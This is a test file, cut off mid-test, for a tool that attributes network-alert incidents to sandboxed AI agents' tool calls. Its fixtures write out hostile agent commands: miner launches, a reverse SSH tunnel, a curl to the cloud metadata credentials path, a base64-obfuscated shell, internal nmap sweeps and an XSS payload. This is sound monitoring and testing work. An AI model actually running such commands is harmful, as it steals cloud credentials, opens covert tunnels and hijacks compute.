// Why: proves the analysis of `corral investigate` on small hand-built fleets where the right
// answer is known by construction: the statistics against exact arithmetic, candidate
// windows (skew, lag, episode end, IP reuse, NAT), scoring and attribution, incidents, the
// fleet view, and the CLI's exit codes and bad-record reporting.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, statSync, writeFileSync, rmSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  erfc, formatP, logBinomUpper, logNormalUpper, rateTest, stratifiedRateTest,
} from '../src/investigate/analysis/stats.js';
import { unionLength } from '../src/investigate/analysis/columns.js';
import { commandPattern, leavesProcessRunning, mentionsDestination } from '../src/investigate/analysis/command-evidence.js';
import { investigateRecords, type InvestigationResult } from '../src/investigate/investigate.js';
import type { Placement, ToolCallSpan } from '../src/investigate/types.js';
import { investigateCommand } from '../src/cli/investigate-command.js';
import { T0, MIN, call, alert, background } from './helpers/investigate-records.js';

// ---------- statistics ----------

/** Exact P(X ≥ k), X ~ Bin(n, a/b), as a float from BigInt rational arithmetic. */
function exactUpper(k: number, n: number, a: number, b: number): number {
  let num = 0n;
  const A = BigInt(a), B = BigInt(b), C = BigInt(b - a);
  let choose = 1n; // C(n, i)
  for (let i = 0; i <= n; i++) {
    if (i > 0) choose = (choose * BigInt(n - i + 1)) / BigInt(i);
    if (i >= k) num += choose * A ** BigInt(i) * C ** BigInt(n - i);
  }
  const den = B ** BigInt(n);
  // Scale to keep 17 significant digits in the division.
  const shift = den.toString().length - num.toString().length + 20;
  const q = shift >= 0 ? (num * 10n ** BigInt(shift)) / den : num / (den * 10n ** BigInt(-shift));
  return Number(q) / 10 ** shift;
}

/** Exact log10 P(X ≥ k) from BigInt arithmetic (for tails below double range). */
function exactLog10Upper(k: number, n: number, a: number, b: number): number {
  let num = 0n, choose = 1n;
  for (let i = 0; i <= n; i++) {
    if (i > 0) choose = (choose * BigInt(n - i + 1)) / BigInt(i);
    if (i >= k) num += choose * BigInt(a) ** BigInt(i) * BigInt(b - a) ** BigInt(n - i);
  }
  const log10Big = (x: bigint): number => { const s = x.toString(); return s.length - 1 + Math.log10(Number(`${s[0]}.${s.slice(1, 17)}`)); };
  return log10Big(num) - n * Math.log10(b);
}

test('binomial upper tail matches exact rational arithmetic, including deep tails', () => {
  assert.ok(Math.abs(Math.exp(logBinomUpper(8, 10, 0.5)) - 56 / 1024) < 1e-15);
  const cases: [number, number, number, number][] = [
    [8, 10, 1, 2], [0, 7, 1, 3], [1, 40, 1, 10], [3, 40, 1, 10], [30, 40, 1, 10], [60, 200, 1, 4], [45, 200, 1, 4],
    [150, 300, 1, 20], [2, 1000, 1, 1000], [500, 1000, 499, 1000],
  ];
  for (const [k, n, a, b] of cases) {
    const exact = exactUpper(k, n, a, b);
    const got = Math.exp(logBinomUpper(k, n, a / b));
    assert.ok(Math.abs(got - exact) <= 1e-9 * exact + 1e-300, `P(X≥${k}; n=${n}, p=${a}/${b}): got ${got}, exact ${exact}`);
  }
  // Tails far below double precision stay exact in log space.
  for (const [k, n, a, b] of [[150, 300, 1, 20], [900, 1000, 1, 10], [400, 400, 1, 100]] as const) {
    const want = exactLog10Upper(k, n, a, b), got = logBinomUpper(k, n, a / b) / Math.LN10;
    assert.ok(want < -100 && Math.abs(got - want) < 1e-9 * Math.abs(want), `log10 P(X≥${k}; n=${n}, p=${a}/${b}): got ${got}, exact ${want}`);
  }
  assert.equal(logBinomUpper(0, 5, 0.3), 0);
  assert.equal(logBinomUpper(6, 5, 0.3), -Infinity);
});

test('erfc and the normal tail agree with reference values', () => {
  const ref: [number, number][] = [[0.1, 0.8875370839817152], [0.5, 0.4795001221869535], [1, 0.15729920705028513], [2, 0.004677734981047266], [3, 2.209049699858544e-5], [5, 1.5374597944280349e-12]];
  for (const [x, v] of ref) assert.ok(Math.abs(erfc(x) - v) / v < 1e-12, `erfc(${x}) = ${erfc(x)}, want ${v}`);
  // Q(10) = 7.619853024160527e-24; Q(40) ≈ 3.655893540915e-350 (below double range: log only).
  assert.ok(Math.abs(Math.exp(logNormalUpper(10)) / 7.619853024160527e-24 - 1) < 1e-6);
  assert.ok(Math.abs(logNormalUpper(40) / Math.LN10 - Math.log10(3.655893540915) + 350) < 1e-6);
  assert.ok(Math.abs(Math.exp(logNormalUpper(-1)) - 0.8413447460685429) < 1e-12);
});

test('rate test: exact for one source, stratified test equals it for one stratum, normal approximation close for large counts', () => {
  const s = { inside: 9, total: 10, insideMs: 1000, observedMs: 10_000 };
  const t = rateTest(s);
  assert.ok(Math.abs(t.p - exactUpper(9, 10, 1, 10)) < 1e-15);
  assert.equal(t.expectedInside, 1);
  assert.ok(t.rateRatio > 50);
  assert.ok(Math.abs(stratifiedRateTest([s]).p - t.p) < 1e-12);
  // Two strata with different busy fractions: exact convolution by hand.
  const a = { inside: 1, total: 1, insideMs: 1, observedMs: 2 }, b = { inside: 1, total: 2, insideMs: 1, observedMs: 4 };
  // X = Xa + Xb, Xa~Bin(1,.5), Xb~Bin(2,.25). P(X≥2) = 1 - P(0) - P(1); P(0)=.5·.5625, P(1)=.5·.375+.5·.5625
  const want = 1 - 0.5 * 0.5625 - (0.5 * 0.375 + 0.5 * 0.5625);
  assert.ok(Math.abs(stratifiedRateTest([a, b]).p - want) < 1e-12);
  // Large totals: the score test against the exact binomial (same single stratum) within 10% in log space.
  const big = { inside: 2300, total: 20_000, insideMs: 1, observedMs: 10 };
  const exact = rateTest(big).log10p, approx = stratifiedRateTest([big]).log10p;
  assert.match(stratifiedRateTest([big]).method, /normal/);
  assert.ok(Math.abs(approx - exact) / Math.abs(exact) < 0.1, `${approx} vs ${exact}`);
  assert.equal(formatP({ p: 0, log10p: -412.3 }), '1e-413');
});

test('union length of intervals equals a brute-force sweep', () => {
  let seed = 7;
  const rnd = (): number => { seed = (seed * 1103515245 + 12345) & 0x7fffffff; return seed / 0x7fffffff; };
  for (let trial = 0; trial < 20; trial++) {
    const n = 1 + Math.floor(rnd() * 30);
    const iv: [number, number][] = Array.from({ length: n }, () => { const a = Math.floor(rnd() * 1000); return [a, a + Math.floor(rnd() * 80)]; });
    const covered = new Uint8Array(1200);
    for (const [a, b] of iv) for (let x = a; x < b; x++) covered[x] = 1;
    const brute = covered.reduce((s, v) => s + v, 0);
    assert.equal(unionLength(Float64Array.from(iv.map((x) => x[0])), Float64Array.from(iv.map((x) => x[1]))), brute);
  }
});

// ---------- command evidence ----------

test('command evidence: detaching, naming the destination, patterns', () => {
  for (const c of ['nohup ./xmrig -o pool.test:3333 &', 'setsid python miner.py', './run.sh & sleep 1', 'screen -dmS x ./a', 'tmux new -d ./a',
    'python -c "import subprocess; subprocess.Popen([\'x\'])"', 'docker run -d img', '(./beacon.sh &)']) assert.ok(leavesProcessRunning(c), c);
  for (const c of ['ls -la && echo done', 'make 2>&1 | tee log', 'curl "http://x.test/?a=1&b=2"', 'cat a &> /dev/null', 'python train.py']) assert.ok(!leavesProcessRunning(c), c);
  assert.equal(mentionsDestination('ssh -R 9000:localhost:22 u@203.0.113.10', '203.0.113.10'), 'address');
  assert.equal(mentionsDestination('ping 10.0.0.10', '10.0.0.1'), undefined);
  assert.equal(mentionsDestination('curl 10.0.0.1:8080', '10.0.0.1'), 'address');
  assert.equal(mentionsDestination('./xmrig -o pool.example.test:14444', '203.0.113.51', 14444), 'port');
  assert.equal(mentionsDestination('python app.py', '203.0.113.51', 443), undefined);
  assert.equal(commandPattern('curl http://10.0.3.7:8080/x?id=41'), commandPattern('curl  http://10.0.9.2:8080/x?id=7'));
  assert.notEqual(commandPattern('curl http://10.0.3.7/'), commandPattern('wget http://10.0.3.7/'));
});

// ---------- linking and attribution ----------

const blamed = (r: InvestigationResult, inc = 0): string[] => r.incidents[inc]!.attributed.map((a) => r.calls[a.call]!.tool_call_id);

test('an alert inside a call is linked and attributed; a non-agent source is not', async () => {
  const spans = [call('ep-1', 0, 0, 30, 'ls'), call('ep-1', 1, 1, 30, 'curl http://169.254.169.254/latest/meta-data/'), call('ep-1', 2, 2, 30, 'ls')];
  const records = [...background(), alert(1.2, '169.254.169.254', { dport: 80 }), alert(1.3, '203.0.113.9', { src: '10.9.9.9' })];
  const r = await investigateRecords({ records, spans });
  assert.equal(r.incidents.length, 1);
  assert.deepEqual(blamed(r), ['ep-1:1']);
  assert.equal(r.incidents[0]!.category, 'metadata_access');
  assert.ok(r.incidents[0]!.attributed[0]!.confidence > 0.9);
  assert.equal(r.counts.unlinkedAlerts, 1);
  assert.equal(r.unattributed[0]!.source, '10.9.9.9');
  const ev = r.alerts[0]!.candidates[0]!;
  assert.equal(ev.timing, 'inside');
  assert.equal(ev.mention, 'address');
});

test('clock skew widens the window; zero skew does not', async () => {
  const spans = [call('ep-1', 0, 0, 30, 'make')];
  const records = [alert(-1.5 / 60, '203.0.113.9')]; // 1.5 s before the call started
  assert.equal((await investigateRecords({ records, spans, skewMs: 2000 })).incidents.length, 1);
  assert.equal((await investigateRecords({ records, spans, skewMs: 0 })).incidents.length, 0);
  const r = await investigateRecords({ records, spans, skewMs: 2000 });
  assert.equal(r.alerts[0]!.candidates[0]!.timing, 'skew');
});

test('after the call: only calls that left a process running, within the lag and the episode', async () => {
  const spans = [
    call('ep-1', 0, 0, 10, 'nohup ./beacon -o 203.0.113.50:3333 &'),
    call('ep-1', 1, 1, 10, 'python train.py'),
    call('ep-1', 2, 8, 10, 'ls'), // episode ends at 8m10s
    call('ep-2', 0, 8.5, 10, 'pwd'), // the address is another episode's from 8m30s
  ];
  const records = [...background(), alert(3, '203.0.113.50', { dport: 3333, category: 'mining' }), alert(9, '203.0.113.50', { dport: 3333, category: 'mining' })];
  const r = await investigateRecords({ records, spans, lagMs: 10 * MIN });
  assert.equal(r.counts.linkedAlerts, 1, 'the alert after the address went to another episode is not linked');
  const a = r.alerts[0]!;
  assert.deepEqual(a.candidates.map((c) => r.calls[c.call]!.tool_call_id), ['ep-1:0'], 'python train.py (no background process) is no lag candidate');
  assert.equal(a.candidates[0]!.timing, 'after');
  assert.deepEqual(blamed(r), ['ep-1:0']);
  // A lag shorter than the gap: nothing links.
  assert.equal((await investigateRecords({ records, spans, lagMs: MIN })).counts.linkedAlerts, 0);
});

test('a beacon series is blamed on the call that started it, not on the calls it overlapped', async () => {
  const spans: ToolCallSpan[] = [];
  for (let s = 0; s < 30; s++) spans.push(call('ep-1', s, s, 25, s === 2 ? 'nohup ./xmrig -o 203.0.113.51:14444 >/dev/null 2>&1 &' : `python step.py --n ${s}`));
  const records = background();
  for (let m = 2.5; m < 29; m += 2.1) records.push(alert(m, '203.0.113.51', { dport: 14444, category: 'mining', severity: 1 }));
  const r = await investigateRecords({ records, spans, lagMs: 30 * MIN });
  assert.equal(r.incidents.length, 1);
  assert.deepEqual(blamed(r), ['ep-1:2']);
  assert.ok(r.incidents[0]!.attributed[0]!.confidence > 0.95);
  assert.equal(r.fleet.patterns[0]!.pattern, 'nohup ./xmrig -o <ip>:<n> >/dev/null <n>>&<n> &');
});

test('shared NAT: equal candidates are ambiguous with a runner-up; command evidence resolves it', async () => {
  const nat = { ips: ['10.0.0.5'] };
  const tie = [call('ep-a', 0, 0, 60, 'python a.py', nat), call('ep-b', 0, 0.1, 60, 'python b.py', nat)];
  const rec = [...background(), alert(0.5, '203.0.113.10', { dport: 22, category: 'tunnel' })];
  const r1 = await investigateRecords({ records: rec, spans: tie });
  assert.equal(r1.incidents[0]!.ambiguous, true);
  assert.ok(r1.incidents[0]!.runnerUp);
  assert.ok(r1.incidents[0]!.attributed[0]!.confidence < 0.6);
  const clear = [call('ep-a', 0, 0, 60, 'python a.py', nat), call('ep-b', 0, 0.1, 60, 'ssh -N -R 9000:localhost:22 u@203.0.113.10', nat)];
  const r2 = await investigateRecords({ records: rec, spans: clear });
  assert.deepEqual(blamed(r2), ['ep-b:0']);
  assert.equal(r2.incidents[0]!.ambiguous, false);
  assert.equal(r2.calls[r2.incidents[0]!.runnerUp!.call]!.tool_call_id, 'ep-a:0');
});

test('placements: a reused IP is linked only to the episode that held it at the time', async () => {
  const noIp = { ips: undefined };
  const spans = [call('ep-a', 0, 1, 60, 'nmap 10.30.0.0/24', noIp), call('ep-b', 0, 12, 60, 'nmap 10.30.0.0/24', noIp)];
  const placements: Placement[] = [
    { ip: '10.0.0.5', from: T0, to: T0 + 10 * MIN, episode: 'ep-a' },
    { ip: '10.0.0.5', from: T0 + 10 * MIN, to: T0 + 20 * MIN, episode: 'ep-b' },
  ];
  const records = [...background(), alert(12.3, '10.30.0.7', { dport: 22 }), alert(12.4, '10.30.0.8', { dport: 22 })];
  const r = await investigateRecords({ records, spans, placements });
  assert.equal(r.incidents.length, 1);
  assert.deepEqual(blamed(r), ['ep-b:0']);
  assert.equal(r.incidents[0]!.category, 'internal_probe');
  assert.equal(r.incidents[0]!.alertCount, 2);
});

test('incidents split by kind and by time gap; a scan over several calls blames all of them', async () => {
  const spans = [call('ep-1', 0, 0, 50, 'nmap -p22 10.30.0.0/25'), call('ep-1', 1, 1, 50, 'nmap -p22 10.30.0.128/25'), call('ep-1', 2, 40, 20, 'curl 169.254.169.254')];
  const records = background();
  for (let i = 0; i < 10; i++) records.push(alert(0.1 + i * 0.08, `10.30.0.${i + 1}`, { dport: 22 }));
  for (let i = 0; i < 10; i++) records.push(alert(1.1 + i * 0.08, `10.30.0.${i + 129}`, { dport: 22 }));
  records.push(alert(40.1, '169.254.169.254', { dport: 80 }));
  const r = await investigateRecords({ records, spans, gapMs: 5 * MIN });
  assert.equal(r.incidents.length, 2);
  const scan = r.incidents.find((i) => i.category === 'internal_probe')!;
  assert.equal(scan.alertCount, 20);
  assert.deepEqual(scan.attributed.map((a) => r.calls[a.call]!.tool_call_id).sort(), ['ep-1:0', 'ep-1:1']);
  const split = await investigateRecords({ records, spans, gapMs: 1000 });
  assert.ok(split.incidents.filter((i) => i.category === 'internal_probe').length >= 2, 'a 1 s gap splits the scan');
});

test('enrichment: alerts concentrated in tool calls give a tiny p-value, alerts independent of them do not', async () => {
  let seed = 3;
  const rnd = (): number => { seed = (seed * 1103515245 + 12345) & 0x7fffffff; return seed / 0x7fffffff; };
  const spans: ToolCallSpan[] = [];
  for (let s = 0; s < 60; s++) spans.push(call('ep-1', s, s, 15, 'python step.py')); // busy 25% of each minute
  const concentrated = background();
  for (let s = 0; s < 60; s += 2) concentrated.push(alert(s + 0.1, '203.0.113.77'));
  const rc = await investigateRecords({ records: concentrated, spans, skewMs: 0 });
  assert.equal(rc.enrichment.fleet.inside, 30);
  assert.equal(rc.enrichment.fleet.total, 30);
  // Exact: P(X ≥ 30 | n = 30, p = busy fraction).
  const busy = rc.enrichment.fleet.insideMs / rc.enrichment.fleet.observedMs;
  assert.ok(Math.abs(busy - (60 * 15) / (59 * 60 + 15)) < 1e-9);
  assert.ok(Math.abs(rc.enrichment.fleet.log10p - 30 * Math.log10(busy)) < 1e-9);
  const uniform = background();
  for (let i = 0; i < 40; i++) uniform.push(alert(rnd() * 59, '203.0.113.77'));
  const ru = await investigateRecords({ records: uniform, spans, skewMs: 0 });
  assert.equal(ru.enrichment.fleet.total, 40);
  assert.ok(ru.enrichment.fleet.p > 0.01, `p = ${ru.enrichment.fleet.p}`);
  // Noise independent of tool use lowers the confidence of any single attribution.
  const conf = (r: InvestigationResult): number => Math.max(...r.incidents.map((i) => i.attributed[0]?.confidence ?? 0));
  assert.ok(conf(ru) < conf(rc), `${conf(ru)} < ${conf(rc)}`);
});

test('a detection-rule match on the command is evidence', async () => {
  const nat = { ips: ['10.0.0.5'] };
  const spans = [call('ep-a', 0, 0, 60, 'python a.py', nat), call('ep-b', 0, 0, 60, 'bash -c "$(echo c3NoIC1S | base64 -d)"', nat)];
  const records = [...background(), alert(0.5, '203.0.113.12', { category: 'tunnel', dport: 22 })];
  const rules = (c: string): { rule: string; category: string }[] => (c.includes('base64') ? [{ rule: 'obfuscated-shell', category: 'tunnel' }] : []);
  const r = await investigateRecords({ records, spans, rules });
  assert.deepEqual(blamed(r), ['ep-b:0']);
  assert.equal(r.alerts[0]!.candidates[0]!.ruleMatch, 'category');
});

test('fleet view: patterns across episodes, steps and first appearance', async () => {
  const spans: ToolCallSpan[] = [];
  const records = background();
  ['ep-1', 'ep-2', 'ep-3'].forEach((ep, k) => {
    const ip = `10.0.0.${k + 10}`;
    spans.push(call(ep, 4, k * 10, 20, `curl -s -m ${k + 2} http://169.254.169.254/latest/meta-data/iam/security-credentials/`, { ips: [ip] }));
    spans.push(call(ep, 5, k * 10 + 1, 20, 'ls', { ips: [ip] }));
    records.push(alert(k * 10 + 0.1, '169.254.169.254', { src: ip, dport: 80 }));
  });
  const r = await investigateRecords({ records, spans });
  assert.equal(r.incidents.length, 3);
  assert.equal(r.fleet.patterns.length, 1);
  assert.equal(r.fleet.patterns[0]!.episodes, 3);
  assert.deepEqual(r.fleet.patterns[0]!.steps, [4]);
  assert.equal(r.fleet.firstAppeared!.episode, 'ep-1');
  assert.equal(r.fleet.episodes.length, 3);
});

// ---------- CLI ----------

function capture(): { io: Parameters<typeof investigateCommand>[1]; out: () => string; err: () => string } {
  let o = '', e = '';
  const mk = (f: (s: string) => void) => ({ write: (s: string | Uint8Array) => { f(String(s)); return true; } }) as unknown as NodeJS.WritableStream;
  return { io: { stdout: mk((s) => { o += s; }), stderr: mk((s) => { e += s; }), env: { NO_COLOR: '1' } }, out: () => o, err: () => e };
}

test('CLI: exit 3 with incidents, bad records reported with file:line, JSON and HTML outputs, exit 0 and 2', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'corral-inv-'));
  try {
    const iso = (m: number): string => new Date(T0 + m * MIN).toISOString();
    const eve = [
      JSON.stringify({ timestamp: iso(1.2), event_type: 'alert', src_ip: '10.0.0.5', src_port: 40000, dest_ip: '169.254.169.254', dest_port: 80, proto: 'TCP', alert: { signature: 'ET POLICY metadata <b>', severity: 2, category: 'Potentially Bad Traffic' } }),
      '{"timestamp": "broken',
      JSON.stringify({ timestamp: iso(30), event_type: 'alert', src_ip: '10.9.9.9', src_port: 1, dest_ip: '203.0.113.9', dest_port: 22, proto: 'TCP', alert: { signature: 'scan', severity: 3 } }),
    ].join('\n') + '\n';
    const trace = [
      { episode: 'ep-1', step: 0, tool_call_id: 'c0', command: 'ls', ts: iso(0), end_ts: iso(0.5), ip: '10.0.0.5' },
      { episode: 'ep-1', step: 1, tool_call_id: 'c1', command: 'curl http://169.254.169.254/latest/meta-data/ # </script><img src=x onerror=alert(1)>', ts: iso(1), end_ts: iso(1.5), ip: '10.0.0.5' },
      { episode: 'ep-1', step: 2, tool_call_id: 'c2', command: 'ls', ts: iso(2), end_ts: iso(2.5), ip: '10.0.0.5' },
    ].map((x) => JSON.stringify(x)).join('\n') + '\nnot json\n';
    writeFileSync(join(dir, 'eve.json'), eve);
    writeFileSync(join(dir, 'trace.jsonl'), trace);
    const html = join(dir, 'r.html');
    let c = capture();
    let code = await investigateCommand([join(dir, 'eve.json'), '--traces', join(dir, 'trace.jsonl'), '--html', html, '--quiet'], c.io);
    assert.equal(code, 3, c.err());
    assert.match(c.out(), /metadata_access/);
    assert.match(c.out(), /eve\.json:2: /, 'bad line reported with file:line');
    assert.match(c.out(), /trace\.jsonl:4: /);
    const page = readFileSync(html, 'utf8');
    assert.ok(!page.includes('<img src=x'), 'untrusted markup is escaped in the HTML');
    assert.equal(statSync(html).mode & 0o777, 0o600, 'owner-only, like corral report --html: it holds the agents\' commands');
    assert.equal(page.split('</script>').length - 1, 2, 'only the two script elements close');
    c = capture();
    code = await investigateCommand([join(dir, 'eve.json'), '--traces', join(dir, 'trace.jsonl'), '--json', '--quiet'], c.io);
    assert.equal(code, 3);
    const j = JSON.parse(c.out()) as InvestigationResult;
    assert.equal(j.incidents.length, 1);
    assert.equal(j.calls[j.incidents[0]!.attributed[0]!.call]!.tool_call_id, 'c1');
    assert.equal(j.inputs.net[0]!.bad, 1);
    assert.equal(j.inputs.net[0]!.issues[0]!.line, 2);
    assert.ok(!j.notes.some((n) => n.includes('--map')));
    // a --map for a format whose fields are known is said to be unused, not silently dropped (a review, session 40)
    c = capture();
    assert.equal(await investigateCommand([join(dir, 'eve.json'), '--traces', join(dir, 'trace.jsonl'), '--map', 'ts=when', '--json', '--quiet'], c.io), 3);
    assert.ok((JSON.parse(c.out()) as InvestigationResult).notes.some((n) => /eve\.json: --map not used \(it maps csv, jsonl and key=value logs; this is suricata-eve/.test(n)), c.out().slice(0, 400));
    // No incidents: the trace's IP never raised an alert.
    writeFileSync(join(dir, 'quiet.jsonl'), JSON.stringify({ episode: 'ep-9', step: 0, command: 'ls', ts: iso(0), end_ts: iso(1), ip: '10.0.0.77' }) + '\n');
    c = capture();
    assert.equal(await investigateCommand([join(dir, 'eve.json'), '--traces', join(dir, 'quiet.jsonl'), '--quiet'], c.io), 0);
    c = capture();
    assert.equal(await investigateCommand(['--traces', join(dir, 'trace.jsonl')], c.io), 2);
    assert.equal(await investigateCommand([join(dir, 'eve.json'), '--skew', 'soon'], capture().io), 2);
    assert.equal(await investigateCommand([join(dir, 'eve.json'), '--format', 'nope'], capture().io), 2);
    // A directory stands for the files under it (rotated logs, gzipped or not; hidden ones skipped); an empty one is refused.
    const logDir = join(dir, 'logs');
    mkdirSync(join(logDir, 'day2'), { recursive: true });
    writeFileSync(join(logDir, 'day1-eve.json.gz'), gzipSync(eve));
    writeFileSync(join(logDir, 'day2', 'eve.json'), eve);
    writeFileSync(join(logDir, '.hidden.json'), 'not read');
    c = capture();
    assert.equal(await investigateCommand([logDir, '--traces', join(dir, 'trace.jsonl'), '--json', '--quiet'], c.io), 3, c.err());
    const fromDir = JSON.parse(c.out()) as InvestigationResult;
    assert.deepEqual(fromDir.inputs.net.map((s) => s.file), [join(logDir, 'day1-eve.json.gz'), join(logDir, 'day2', 'eve.json')]);
    assert.equal(fromDir.inputs.net[0]!.format, 'suricata-eve');
    mkdirSync(join(dir, 'empty'));
    c = capture();
    assert.equal(await investigateCommand([join(dir, 'empty'), '--traces', join(dir, 'trace.jsonl')], c.io), 2);
    assert.match(c.err(), /cannot read .*empty: the directory holds no files/);
    c = capture();
    assert.equal(await investigateCommand([join(dir, 'missing.log'), '--traces', join(dir, 'trace.jsonl')], c.io), 2);
    assert.match(c.err(), /cannot read .*missing\.log: no such file/);
    assert.equal(await investigateCommand([join(dir, 'eve.json'), '--traces', join(dir, 'trace.jsonl'), '--trace-format', 'nope'], capture().io), 2);
    // A trace whose first lines do not look like any format: the report says which option names it,
    // and --trace-format reads it anyway (its good lines count, the rest are bad lines).
    writeFileSync(join(dir, 'odd.jsonl'), 'garbage first line\n' + trace);
    c = capture();
    await investigateCommand([join(dir, 'eve.json'), '--traces', join(dir, 'odd.jsonl'), '--json', '--quiet'], c.io);
    const odd = JSON.parse(c.out()) as InvestigationResult;
    assert.match(odd.inputs.traces[0]!.issues[0]!.error, /unknown trace format.*--trace-format/);
    c = capture();
    assert.equal(await investigateCommand([join(dir, 'eve.json'), '--traces', join(dir, 'odd.jsonl'), '--trace-format', 'canonical-jsonl', '--json', '--quiet'], c.io), 3);
    const named = JSON.parse(c.out()) as InvestigationResult;
    assert.equal(named.inputs.traces[0]!.records, 3);
    assert.equal(named.inputs.traces[0]!.bad, 2);
    assert.equal(await investigateCommand([join(dir, 'missing.json')], capture().io), 2);
    assert.equal(await investigateCommand([join(dir, 'eve.json'), '--bogus'], capture().io), 2);
  } finally { rmSync(dir, { recursive: true, force: true }); }
});

test('worker threads over byte ranges give the same result as one thread, with exact line numbers', async () => {
  const { investigate } = await import('../src/investigate/investigate.js');
  const dir = mkdtempSync(join(tmpdir(), 'corral-inv-par-'));
  try {
    const iso = (ms: number): string => new Date(ms).toISOString();
    const lines: string[] = [];
    const eve: string[] = [];
    for (let i = 0; i < 4000; i++) {
      const ip = `10.0.${i % 7}.9`, start = T0 + i * 1000;
      const bad = i === 2500;
      lines.push(bad ? '{"episode": "ep-x", "command": "ls", "ts": ' : JSON.stringify({ episode: `ep-${i % 7}`, step: Math.floor(i / 7), tool_call_id: `c${i}`, command: i === 3001 ? 'curl http://169.254.169.254/latest/meta-data/' : 'python step.py', ts: iso(start), end_ts: iso(start + 600), ip }));
    }
    eve.push(JSON.stringify({ timestamp: iso(T0 + 3001 * 1000 + 300), event_type: 'alert', src_ip: '10.0.5.9', src_port: 1, dest_ip: '169.254.169.254', dest_port: 80, proto: 'TCP', alert: { signature: 'metadata', severity: 2 } }));
    for (let k = 0; k < 30; k++) eve.push(JSON.stringify({ timestamp: iso(T0 + k * 97_000 + 50), event_type: 'alert', src_ip: `10.0.${k % 7}.9`, src_port: 1, dest_ip: '192.0.2.50', dest_port: 443, proto: 'TCP', alert: { signature: 'telemetry', severity: 3 } }));
    writeFileSync(join(dir, 'trace.jsonl'), lines.join('\n') + '\n');
    writeFileSync(join(dir, 'eve.json'), eve.join('\n') + '\n');
    const base = { logs: [{ path: join(dir, 'eve.json') }], traces: [{ path: join(dir, 'trace.jsonl') }], rules: 'off' as const };
    const one = await investigate({ ...base, jobs: 1 });
    const many = await investigate({ ...base, jobs: 3, parallelMinBytes: 1 });
    assert.ok(many.notes.some((n) => /worker threads/.test(n)), many.notes.join('; '));
    assert.equal(many.counts.toolCalls, 3999);
    assert.equal(many.counts.episodes, one.counts.episodes);
    assert.deepEqual(many.inputs.traces[0]!.issues.map((i) => i.line), [2501]);
    assert.equal(many.inputs.traces[0]!.bad, 1);
    const summary = (r: InvestigationResult): string[] => r.incidents.map((i) => `${i.category} ${i.alertCount} ${i.attributed.map((a) => r.calls[a.call]!.tool_call_id).join(',')} ${i.attributed[0]!.confidence.toFixed(6)}`).sort();
    assert.deepEqual(summary(many), summary(one));
    assert.deepEqual(many.enrichment.fleet, one.enrichment.fleet);
    assert.ok(summary(one).some((s) => s.startsWith('metadata_access 1 c3001')));
    // The whole result, calls' numbers and order included, does not depend on the number of threads.
    const whole = (r: InvestigationResult): string => JSON.stringify({ ...r, timings: undefined, notes: undefined, options: { ...r.options, jobs: undefined } });
    assert.equal(whole(many), whole(one));
  } finally { rmSync(dir, { recursive: true, force: true }); }
});

test('OTLP traces read by worker threads: JSON lines split by line ranges, one document read whole, both as one thread reads them', async () => {
  const { investigate } = await import('../src/investigate/investigate.js');
  const dir = mkdtempSync(join(tmpdir(), 'corral-inv-otlp-par-'));
  try {
    const ns = (ms: number): string => `${ms}000000`;
    const str = (key: string, v: string): unknown => ({ key, value: { stringValue: v } });
    // One resource (a sandbox on one IP) per episode; an execute_tool span per call between model spans.
    const resources: unknown[] = [];
    for (let e = 0; e < 300; e++) {
      const ip = `10.0.${e % 7}.9`;
      const spans: unknown[] = [];
      for (let k = 0; k < 10; k++) {
        const i = e * 10 + k, start = T0 + i * 1000;
        spans.push({ traceId: `t${e}`, spanId: `m${i}`, name: 'chat model', startTimeUnixNano: ns(start - 300), endTimeUnixNano: ns(start), attributes: [str('gen_ai.operation.name', 'chat')] });
        spans.push({
          traceId: `t${e}`, spanId: `s${i}`, name: 'execute_tool bash', startTimeUnixNano: ns(start), endTimeUnixNano: ns(start + 600),
          attributes: [str('gen_ai.operation.name', 'execute_tool'), str('gen_ai.tool.name', 'bash'), str('gen_ai.tool.call.id', `c${i}`),
            str('gen_ai.tool.call.arguments', JSON.stringify({ command: i === 2001 ? 'curl http://169.254.169.254/latest/meta-data/' : 'python step.py' })), { key: 'step', value: { intValue: String(k) } }],
        });
      }
      resources.push({ resource: { attributes: [str('episode', `ep-${e}`), str('host.name', `h${e % 5}`), { key: 'host.ip', value: { arrayValue: { values: [{ stringValue: ip }] } } }] }, scopeSpans: [{ scope: { name: 't' }, spans }] });
    }
    const lines = resources.map((r) => JSON.stringify({ resourceSpans: [r] }));
    lines[150] = lines[150]!.slice(0, 200); // a torn document in the middle
    writeFileSync(join(dir, 'otlp-lines.jsonl'), lines.join('\n') + '\n');
    writeFileSync(join(dir, 'otlp.json'), `{"resourceSpans":[\n${resources.map((r) => JSON.stringify(r)).join(',\n')}\n]}\n`);
    const iso = (ms: number): string => new Date(ms).toISOString();
    writeFileSync(join(dir, 'eve.json'), [
      // Call c2001 is episode 200's, on 10.0.4.9.
      JSON.stringify({ timestamp: iso(T0 + 2001 * 1000 + 300), event_type: 'alert', src_ip: '10.0.4.9', src_port: 1, dest_ip: '169.254.169.254', dest_port: 80, proto: 'TCP', alert: { signature: 'metadata', severity: 2 } }),
      ...Array.from({ length: 30 }, (_, k) => JSON.stringify({ timestamp: iso(T0 + k * 97_000 + 50), event_type: 'alert', src_ip: `10.0.${k % 7}.9`, src_port: 1, dest_ip: '192.0.2.50', dest_port: 443, proto: 'TCP', alert: { signature: 'telemetry', severity: 3 } })),
    ].join('\n') + '\n');
    const skipped = (r: InvestigationResult): unknown => (r.inputs.traces[0] as { skipped?: number }).skipped;
    const summary = (r: InvestigationResult): string[] => r.incidents.map((i) => `${i.category} ${i.alertCount} ${i.attributed.map((a) => r.calls[a.call]!.tool_call_id).join(',')} ${i.attributed[0]!.confidence.toFixed(6)}`).sort();
    for (const [file, calls, bad] of [['otlp-lines.jsonl', 2990, [151]], ['otlp.json', 3000, []]] as const) {
      const base = { logs: [{ path: join(dir, 'eve.json') }], traces: [{ path: join(dir, file) }], rules: 'off' as const };
      const one = await investigate({ ...base, jobs: 1 });
      const many = await investigate({ ...base, jobs: 3, parallelMinBytes: 1 });
      assert.ok(many.notes.some((n) => /traces read by \d+ worker threads/.test(n)), `${file}: ${many.notes.join('; ')}`);
      assert.equal(one.counts.toolCalls, calls, file);
      assert.equal(many.counts.toolCalls, calls, file);
      assert.equal(many.counts.episodes, one.counts.episodes, file);
